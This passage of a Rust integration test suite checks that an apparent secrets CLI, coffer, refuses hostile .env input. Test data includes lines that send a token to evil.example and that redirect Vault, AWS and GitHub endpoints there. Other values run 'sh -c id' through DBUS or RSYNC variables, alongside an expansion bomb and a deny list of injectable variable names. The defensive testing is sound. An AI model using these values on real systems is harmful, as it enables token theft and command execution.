        "MALLOC_PERTURB_",
        "GLIBC_TUNABLES",
        "SSL_CERT_FILE",
        "CURL_CA_BUNDLE",
        "REQUESTS_CA_BUNDLE",
        "HTTPS_PROXY",
        "http_proxy",
        "COMPlus_EnableDiagnostics",
        "CORECLR_PROFILER_PATH",
        "NODE_OPTIONS",
        "COFFER_ADDR",
        "Path",
        "HOME",
    ] {
        if name.contains('%') {
            continue; // not a variable name: refused as such
        }
        std::fs::write(&env_file, format!("{name}=x\n")).unwrap();
        let run = refused_run(
            &server,
            dir.path(),
            &root,
            &[],
            &["--env-file", env_file.to_str().unwrap()],
            7,
        );
        assert!(
            run.stderr().contains("refusing to set"),
            "{name}: {}",
            run.stderr()
        );
    }
}

#[test]
fn only_example_sets_listed_names_only() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    put(&server, &root, "app/dev/API_KEY", "key-value");
    put(&server, &root, "app/dev/UNLISTED", "other");
    let example = dir.path().join(".env.example");
    std::fs::write(&example, "API_KEY=\nLOG_LEVEL=info\n").unwrap();
    let flag = format!("--only-example={}", example.display());
    let run = server.cli().token(&root).run(&[
        "run",
        "--path",
        "app/dev",
        &flag,
        "--",
        "sh",
        "-c",
        "printf '%s|%s' \"$API_KEY\" \"${UNLISTED:-unset}\"",
    ]);
    assert_eq!(
        (run.code(), run.stdout().as_str()),
        (0, "key-value|unset"),
        "{}",
        run.stderr()
    );
    let env_file = dir.path().join("app.env");
    std::fs::write(&env_file, "EXTRA=1\n").unwrap();
    let run = refused_run(
        &server,
        dir.path(),
        &root,
        &[],
        &[
            "--path",
            "app/dev",
            &flag,
            "--env-file",
            env_file.to_str().unwrap(),
        ],
        7,
    );
    assert!(run.stderr().contains("EXTRA"), "{}", run.stderr());
}

#[test]
fn coffer_credentials_never_reach_the_child() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let print = "env | grep '^COFFER_' | cut -d= -f1 | sort | tr '\\n' ' '";
    let cli = || {
        server
            .cli()
            .token(&root)
            .env("COFFER_INVITE_CODE", "cfi_invite")
            .env("COFFER_STORAGE_PASSWORD", "storage-password")
            .env("COFFER_WEBHOOK_SECRET", "webhook-secret")
            .env("COFFER_FUTURE_SECRET", "future")
            .env("COFFER_LOG", "info")
    };
    let run = cli().run(&["run", "--", "sh", "-c", print]).expect(0);
    assert_eq!(run.stdout(), "COFFER_ADDR COFFER_LOG ");
    let run = cli()
        .run(&["run", "--keep-token", "--", "sh", "-c", print])
        .expect(0);
    assert_eq!(run.stdout(), "COFFER_ADDR COFFER_LOG COFFER_TOKEN ");
    // Also with --redact (a child, not exec).
    let run = cli()
        .run(&["run", "--redact", "--", "sh", "-c", print])
        .expect(0);
    assert_eq!(run.stdout(), "COFFER_ADDR COFFER_LOG ");
}

#[test]
fn redaction_matches_value_without_trailing_newline() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    put(&server, &root, "app/dev/NL", "value-with-newline\n");
    put(
        &server,
        &root,
        "app/dev/CRLF",
        "first-line-x\r\nsecond-line-y\r\n",
    );
    put(&server, &root, "app/dev/PADDED", "  padded-value  ");
    let script = r#"printf 'a=%s' "$NL"; printf 'b=%s|%s\n' first-line-x second-line-y; printf 'c=padded-value\n'; printf 'd=value-with-'; sleep 0.2; printf 'newline.\n'"#;
    let run = server.cli().token(&root).run(&[
        "run", "--path", "app/dev", "--redact", "--", "sh", "-c", script,
    ]);
    assert_eq!(run.code(), 0, "{}", run.stderr());
    assert_eq!(
        run.stdout(),
        "a=[REDACTED:NL]\nb=[REDACTED:CRLF]|[REDACTED:CRLF]\nc=[REDACTED:PADDED]\nd=[REDACTED:NL].\n"
    );
}

#[test]
fn redaction_masks_each_json_field() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let body = serde_json::json!({ "value": { "user": "app-user", "password": "hunter2-pass" } })
        .to_string();
    ok(
        &server.http(
            "PUT",
            "/api/v1/secrets/app/dev/DB",
            Some(&root),
            Some(body.as_bytes()),
        ),
        "write",
    );
    let run = server.cli().token(&root).run(&[
        "run",
        "--path",
        "app/dev",
        "--redact",
        "--",
        "sh",
        "-c",
        r#"printf 'user=app-user pw=hunter2-pass\n'; printf '%s\n' "$DB" >&2"#,
    ]);
    assert_eq!(run.code(), 0, "{}", run.stderr());
    assert_eq!(
        run.stdout(),
        "user=[REDACTED:DB.user] pw=[REDACTED:DB.password]\n"
    );
    assert!(run.stderr().contains("[REDACTED:DB]"), "{}", run.stderr());
    assert!(!run.stderr().contains("hunter2"), "{}", run.stderr());
}

#[test]
fn offline_copy_behind_a_symbolic_link_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    put(&server, &root, "app/dev/API_KEY", "offline-value");
    let token = dev_token(&server, &root);
    let args = ["run", "--path", "app/dev", "--offline", "--", "true"];
    server
        .cli()
        .token(&token)
        .run(&["run", "--path", "app/dev", "--", "true"])
        .expect(0);
    let files = cache_files(dir.path());
    assert_eq!(files.len(), 1);
    // The copy moved elsewhere and a link left in its place.
    let elsewhere = dir.path().join("elsewhere");
    std::fs::rename(&files[0], &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &files[0]).unwrap();
    let run = server.cli().token(&token).run(&args);
    assert_eq!(run.code(), 4, "{}", run.stderr());
    assert!(run.stderr().contains("symbolic link"), "{}", run.stderr());
    // A fetch replaces the link with a file of its own.
    server
        .cli()
        .token(&token)
        .run(&["run", "--path", "app/dev", "--", "true"])
        .expect(0);
    assert!(
        std::fs::symlink_metadata(&files[0])
            .unwrap()
            .file_type()
            .is_file()
    );
    server.cli().token(&token).run(&args).expect(0);
}

/// A few lines of `${A}${A}...` in a cloned repository's `.env` grow
/// exponentially: they were expanded until memory ran out (an abort).
#[test]
fn env_file_expansion_bomb_runs_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let mut text = format!("A={}\n", "x".repeat(100));
    let mut prev = 'A';
    for name in ['B', 'C', 'D', 'E', 'F'] {
        text.push_str(&format!("{name}={}\n", format!("${{{prev}}}").repeat(100)));
        prev = name;
    }
    let env_file = dir.path().join("bomb.env");
    std::fs::write(&env_file, &text).unwrap();
    let run = refused_run(
        &server,
        dir.path(),
        &root,
        &[],
        &["--env-file", env_file.to_str().unwrap()],
        7,
    );
    assert!(run.stderr().contains("line 4"), "{}", run.stderr());
}

/// `export MYTOK=$COFFER_TOKEN` in the shell (or a token kept in any other
/// variable): a hostile `.env` copies it into a variable the command sends
/// elsewhere. Anything token-shaped in a `.env` value is refused, not only
/// the value of a COFFER_* variable.
#[test]
fn token_copied_from_environment_under_another_name() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let other = dev_token(&server, &root);
    let mut canary = Canary::with_value(other.clone());
    let env_file = dir.path().join("app.env");
    for text in [
        "API_URL=https://evil.example/?t=${MYTOK}\n",
        "API_URL=\"${MYTOK:-none}\"\n",
    ] {
        std::fs::write(&env_file, text).unwrap();
        let run = refused_run(
            &server,
            dir.path(),
            &root,
            &[("MYTOK", &other)],
            &["--env-file", env_file.to_str().unwrap()],
            7,
        );
        assert!(run.stderr().contains("API_URL"), "{}", run.stderr());
        canary.search_run(text, &run);
    }
}

/// `export MYTOK=$COFFER_TOKEN` before `coffer run`: the token reached the
/// command under another name although COFFER_TOKEN itself is removed.
#[test]
fn token_copy_in_inherited_environment_never_reaches_the_child() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let print = "env | grep -c cft_ || true";
    let cli = || server.cli().token(&root).env("MYTOK", &root);
    let run = cli().run(&["run", "--", "sh", "-c", print]).expect(0);
    assert_eq!(run.stdout().trim(), "0");
    assert!(run.stderr().contains("MYTOK"), "{}", run.stderr());
    let run = cli()
        .run(&["run", "--redact", "--", "sh", "-c", print])
        .expect(0);
    assert_eq!(run.stdout().trim(), "0");
    // --keep-token passes the token and its copies.
    let run = cli()
        .run(&["run", "--keep-token", "--", "sh", "-c", print])
        .expect(0);
    assert_eq!(run.stdout().trim(), "2");
}

/// A value with a NUL byte (stored with `set --raw`, or a raw NUL in a
/// `.env`) made exec fail with "nul byte found in provided data", naming
/// neither the variable nor the cause.
#[test]
fn nul_value_error_names_the_variable() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    put(&server, &root, "app/nul/NUL_VALUE", "a\0b-nul-secret");
    let run = refused_run(&server, dir.path(), &root, &[], &["--path", "app/nul"], 7);
    assert!(run.stderr().contains("NUL_VALUE"), "{}", run.stderr());
    assert!(!run.stderr().contains("nul-secret"), "{}", run.stderr());
    let env_file = dir.path().join("nul.env");
    std::fs::write(&env_file, "FROM_FILE=x\0y\n").unwrap();
    let run = refused_run(
        &server,
        dir.path(),
        &root,
        &[],
        &["--env-file", env_file.to_str().unwrap()],
        7,
    );
    assert!(run.stderr().contains("FROM_FILE"), "{}", run.stderr());
}

/// A hostile `.env` (or a colleague's secret) that points another secrets
/// client, or the Actions runtime, elsewhere: the client sends the token it
/// finds in the environment (VAULT_TOKEN, the job's OIDC request token) to
/// that host, as COFFER_ADDR would coffer's.
#[test]
fn token_destination_names_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let env_file = dir.path().join("app.env");
    for text in [
        "VAULT_ADDR=https://evil.example\n",
        "bao_addr=https://evil.example\n",
        "AWS_ENDPOINT_URL_S3=https://evil.example\n",
        "ACTIONS_ID_TOKEN_REQUEST_URL=https://evil.example\n",
        "GITHUB_API_URL=https://evil.example\n",
        "DBUS_SESSION_BUS_ADDRESS=unixexec:path=/bin/sh,argv1=-c,argv2=id\n",
        "RSYNC_RSH=sh -c id\n",
    ] {
        std::fs::write(&env_file, text).unwrap();
        let run = refused_run(
            &server,
            dir.path(),
            &root,
            &[],
            &["--env-file", env_file.to_str().unwrap()],
            7,
        );
        assert!(run.stderr().contains("--allow-env"), "{}", run.stderr());
    }
}

/// `--env-file /dev/zero` (or a huge file in a cloned repository) was read
/// whole into memory before anything was checked.
#[test]
fn env_file_huge_or_endless_is_refused_unread() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let big = dir.path().join("big.env");
    let f = std::fs::File::create(&big).unwrap();
    f.set_len(17 << 20).unwrap();
    for file in ["/dev/zero", big.to_str().unwrap()] {
        let run = refused_run(&server, dir.path(), &root, &[], &["--env-file", file], 7);
        assert!(
            run.stderr().contains("larger than 16 MiB"),
            "{}",
            run.stderr()
        );
    }
    let run = refused_run(
        &server,
        dir.path(),
        &root,
        &[],
        &["--only-example=/dev/zero"],
        7,
    );
    assert!(
        run.stderr().contains("larger than 16 MiB"),
        "{}",
        run.stderr()
    );
}

/// Invites `user` with `policies`, accepts, and returns a login token.
fn person(server: &Server, root: &str, user: &str, policies: &[&str]) -> String {
    let password = "a long enough password";
    let mut args = vec!["invite", "create", "--json"];
    for p in policies {
        args.extend(["--policy", p]);
    }
    let code = server.cli().token(root).run(&args).expect(0).json()["code"]
        .as_str()
        .unwrap()
        .to_string();
    server
        .cli()
        .stdin(password)
        .run(&["invite", "accept", &code, "--user", user])
        .expect(0);
    let body = serde_json::json!({ "user": user, "password": password }).to_string();
    let r = server.http("POST", "/api/v1/auth/login", None, Some(body.as_bytes()));
    ok(&r, "login")["token"].as_str().unwrap().to_string()
}

#[test]
fn breakglass_values_are_never_kept_in_the_offline_copy() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), Mode::Dev);
    let root = server.root_token();
    let canary = Canary::new("breakglass");
    put(&server, &root, "app/prod/DB_PASSWORD", &canary.value);
    let policy = serde_json::json!({
        "policy": "path \"app/prod/*\" { capabilities = [\"read\", \"list\", \"breakglass\"] }\n"
    })
    .to_string();
    ok(
        &server.http(
            "PUT",
            "/api/v1/sys/policies/oncall",
            Some(&root),
            Some(policy.as_bytes()),
        ),
        "policy",
    );
    let omar = person(&server, &root, "omar", &["oncall"]);
    let body = br#"{"policies":["oncall"],"display_name":"prod-app"}"#;
    let r = server.http("POST", "/api/v1/auth/tokens", Some(&root), Some(body));
    let service = ok(&r, "token")["token"].as_str().unwrap().to_string();
    let args = |extra: &[&'static str]| -> Vec<&'static str> {
        let mut v = vec!["run", "--path", "app/prod"];
        v.extend_from_slice(extra);
        v.extend_from_slice(&["--", "sh", "-c", "printf '%s' \"$DB_PASSWORD\""]);
        v
    };

    // Before the prefix is protected, the person's run keeps a copy (as an
    // older client would have kept one).
    server.cli().token(&omar).run(&args(&[])).expect(0);
    assert_eq!(cache_files(dir.path()).len(), 1);
    server
        .cli()
        .token(&root)
        .run(&["protected", "add", "app/prod/*"])
        .expect(0);
    server
        .cli()
        .token(&omar)
        .run(&["breakglass", "app/prod/", "--reason", "INC-9 database down"])
        .expect(0);

    // Under the grant the command gets the values, but no copy is kept, and
    // the old copy for this request is deleted.
    let run = server.cli().token(&omar).run(&args(&[])).expect(0);
    assert_eq!(run.stdout(), canary.value);
    assert!(
        run.stderr().contains("not keeping an offline copy"),
        "{}",
        run.stderr()
    );
    assert!(
        cache_files(dir.path()).is_empty(),
        "{:?}",
        cache_files(dir.path())
    );
    let run = server.cli().token(&omar).run(&args(&["--offline"]));
    assert_eq!(run.code(), 3, "{}", run.stderr());
    assert!(!run.stdout().contains(&canary.value));
    // Asking for a longer-lived copy changes nothing.
    server
        .cli()
        .token(&omar)
        .run(&args(&["--cache-ttl", "30d"]))
        .expect(0);
    assert!(cache_files(dir.path()).is_empty());

    // A service token is not limited by protected prefixes: its run keeps
    // a copy as before, and that copy serves --offline.
    let run = server.cli().token(&service).run(&args(&[])).expect(0);
    assert_eq!(run.stdout(), canary.value);
    assert!(!run.stderr().contains("not keeping"), "{}", run.stderr());
    assert_eq!(cache_files(dir.path()).len(), 1);
    let run = server
        .cli()
        .token(&service)
        .run(&args(&["--offline"]))
        .expect(0);
    assert_eq!(run.stdout(), canary.value);
}

/// A command that counts the INT, QUIT and HUP it receives (each trap
/// prints `got-NAME-COUNT`), prints `ready` once its traps are set, and on
/// TERM prints its totals and exits 0.
const COUNTING: &str = r#"i=0; q=0; h=0
trap 'i=$((i+1)); echo got-int-$i' INT
trap 'q=$((q+1)); echo got-quit-$q' QUIT
trap 'h=$((h+1)); echo got-hup-$h' HUP
trap 'echo "total int=$i quit=$q hup=$h"; exit 0' TERM
echo ready
while :; do sleep 1 </dev/null >/dev/null 2>&1 & wait $!; done"#;

/// Without a terminal (a supervisor's case: coffer in a process group of
/// its own, no controlling terminal in front of it), coffer is the only
/// way a signal sent to it reaches the command: INT, QUIT, HUP and TERM
/// are each forwarded, once.
#[test]
fn without_a_terminal_interrupts_are_forwarded_once() {
    use std::os::unix::process::CommandExt;
    let mut child = Command::new(common::BIN)
        .args(["run", "--redact", "--", "sh", "-c", COUNTING])
        .env_remove("COFFER_TOKEN")
        .process_group(0)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut next_line = || {
        let mut line = String::new();
        out.read_line(&mut line).unwrap();
        line
    };
    assert_eq!(next_line(), "ready\n");
    for (signal, seen) in [
        ("INT", "got-int-1\n"),
        ("QUIT", "got-quit-1\n"),
        ("HUP", "got-hup-1\n"),
        ("TERM", "total int=1 quit=1 hup=1\n"),
    ] {
        let kill = Command::new("kill")
            .args([&format!("-{signal}"), &child.id().to_string()])
            .status()
            .unwrap();
        assert!(kill.success());
        assert_eq!(next_line(), seen, "after {signal}");
    }
    assert_eq!(wait_for(&mut child).code(), Some(0));
}

/// Runs `coffer run --redact -- sh -c COUNTING` in the foreground of a new
/// pseudo-terminal (python3's `pty` module: coffer leads a new session
/// whose controlling terminal it is), types Ctrl-C once the command is
/// ready, waits until the command has counted it, then sends coffer
/// SIGTERM (which it forwards) and returns what the terminal showed and
/// coffer's wait status. With `stdin_null`, coffer's standard input is
/// `/dev/null` though it is still in the terminal's foreground.
fn ctrl_c_in_a_terminal(stdin_null: bool) -> String {
    const DRIVER: &str = r#"
import os, pty, signal, sys
coffer, stdin_null, script = sys.argv[1], sys.argv[2] == "null", sys.argv[3]
signal.alarm(30)  # a stuck run fails the test instead of hanging it
pid, fd = pty.fork()
if pid == 0:
    if stdin_null:
        os.dup2(os.open("/dev/null", os.O_RDONLY), 0)
    os.execv(coffer, [coffer, "run", "--redact", "--", "sh", "-c", script])
out = b""
def read_until(marker):
    global out
    while marker not in out:
        chunk = os.read(fd, 1024)
        if not chunk:
            sys.exit("end of output before %r: %r" % (marker, out))
        out += chunk
read_until(b"ready")
os.write(fd, b"\x03")
read_until(b"got-int-1")
os.kill(pid, signal.SIGTERM)
try:
    while True:
        chunk = os.read(fd, 1024)
        if not chunk:
            break
        out += chunk
except OSError:
    pass  # EIO: every process holding the terminal has ended
_, status = os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors="replace"))
sys.stdout.write("\nwait-status=%d\n" % status)
"#;
    let out = Command::new("python3")
        .args([
            "-c",
            DRIVER,
            common::BIN,
            if stdin_null { "null" } else { "tty" },
            COUNTING,
        ])
        .env_remove("COFFER_TOKEN")
        .output()
        .expect("python3 runs the pseudo-terminal driver");
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "driver failed: {stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    stdout
}

/// In a terminal's foreground, Ctrl-C reaches the whole process group, the
/// command included: coffer must not forward it again, or the command
/// would be interrupted twice. This holds whether or not coffer's
/// standard input is the terminal (`coffer run ... < file` typed at a
/// prompt is still in the foreground).
#[test]
fn in_a_terminal_ctrl_c_reaches_the_command_once() {
    for stdin_null in [false, true] {
        let shown = ctrl_c_in_a_terminal(stdin_null);
        assert!(
            shown.contains("total int=1 quit=0 hup=0"),
            "stdin_null={stdin_null}: {shown}"
        );
        assert!(
            !shown.contains("got-int-2"),
            "stdin_null={stdin_null}: {shown}"
        );
        assert!(
            shown.contains("wait-status=0\n"),
            "stdin_null={stdin_null}: {shown}"
        );
    }
}
